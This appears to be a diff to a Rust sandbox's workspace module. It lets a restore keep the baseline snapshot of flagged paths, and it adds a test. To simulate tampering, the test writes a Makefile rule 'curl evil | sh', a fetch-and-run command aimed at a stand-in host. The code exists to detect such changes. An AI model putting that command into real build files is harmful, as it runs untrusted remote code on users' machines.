@@ -315,16 +315,45 @@ pub(crate) fn prepare(
 }
 
 /// Writes `workspace.json` (and, for a direct workspace, the snapshot of its flagged paths)
-/// into the sandbox's runtime directory `dir`.
-pub(crate) fn record(dir: &Path, prepared: &Prepared) -> Result<(), WorkspaceError> {
+/// into the sandbox's runtime directory `dir`. A restore passes the snapshot's directory as
+/// `kept`: where it holds the same workspace's records ([`keep`]), the flagged paths' snapshot
+/// is the one taken when the sandbox started, so a diff after a pause and resume still covers
+/// the changes made before it.
+pub(crate) fn record(
+    dir: &Path,
+    prepared: &Prepared,
+    kept: Option<&Path>,
+) -> Result<(), WorkspaceError> {
     let Some(info) = &prepared.info else {
         return Ok(());
     };
     if info.mode == WorkspaceMode::Direct {
-        let snap = snapshot::take(&info.host);
-        write_json(&dir.join(SNAPSHOT_FILE), &snap)?;
+        let baseline = kept
+            .filter(|kept| self::info(kept).ok().flatten().as_ref() == Some(info))
+            .map(|kept| kept.join(SNAPSHOT_FILE))
+            .filter(|path| path.is_file());
+        match baseline {
+            Some(path) => {
+                let target = dir.join(SNAPSHOT_FILE);
+                fs::copy(&path, &target).map_err(io_err("copy", &target))?;
+            }
+            None => write_json(&dir.join(SNAPSHOT_FILE), &snapshot::take(&info.host))?,
+        }
     }
     write_json(&dir.join(INFO_FILE), info)
+}
+
+/// Copies the workspace records of the runtime directory `runtime` (if any) into `to`, a
+/// snapshot's directory, for [`record`] at its restore.
+pub(crate) fn keep(runtime: &Path, to: &Path) -> Result<(), WorkspaceError> {
+    for name in [INFO_FILE, SNAPSHOT_FILE] {
+        let from = runtime.join(name);
+        if from.is_file() {
+            let target = to.join(name);
+            fs::copy(&from, &target).map_err(io_err("copy", &target))?;
+        }
+    }
+    Ok(())
 }
 
 /// The workspace recorded in the runtime directory `dir`, if any.
@@ -426,6 +455,40 @@ mod tests {
     }
 
     #[test]
+    fn a_restore_keeps_the_flagged_paths_baseline_of_the_same_workspace_only() {
+        // Arrange: a direct workspace recorded at start, its Makefile changed afterwards.
+        let project = shareable_dir();
+        fs::write(project.path().join("Makefile"), "all:\n").unwrap();
+        let ws = Workspace {
+            host: project.path().to_owned(),
+            mode: WorkspaceMode::Direct,
+        };
+        let prepared = prepare(Some(&ws), &[]).unwrap();
+        let dirs: Vec<tempfile::TempDir> = (0..4).map(|_| tempfile::tempdir().unwrap()).collect();
+        let (first, snapshot, resumed, fresh) = (&dirs[0], &dirs[1], &dirs[2], &dirs[3]);
+        record(first.path(), &prepared, None).unwrap();
+        fs::write(project.path().join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
+
+        // Act
+        keep(first.path(), snapshot.path()).unwrap();
+        record(resumed.path(), &prepared, Some(snapshot.path())).unwrap();
+        record(fresh.path(), &prepared, Some(fresh.path())).unwrap();
+
+        // Assert
+        let baseline = |dir: &tempfile::TempDir| fs::read(dir.path().join(SNAPSHOT_FILE)).unwrap();
+        assert_eq!(
+            baseline(resumed),
+            baseline(first),
+            "the start's baseline is kept"
+        );
+        assert_ne!(
+            baseline(fresh),
+            baseline(first),
+            "no kept records: a new baseline"
+        );
+    }
+
+    #[test]
     fn a_direct_workspace_is_a_read_write_mount_checked_with_the_others() {
         // Arrange
         let dir = shareable_dir();
@@ -506,7 +569,7 @@ mod tests {
         let prepared = prepare(Some(&ws), &[]).unwrap();
 
         // Act
-        record(run.path(), &prepared).unwrap();
+        record(run.path(), &prepared, None).unwrap();
 
         // Assert
         let info = info(run.path()).unwrap().unwrap();
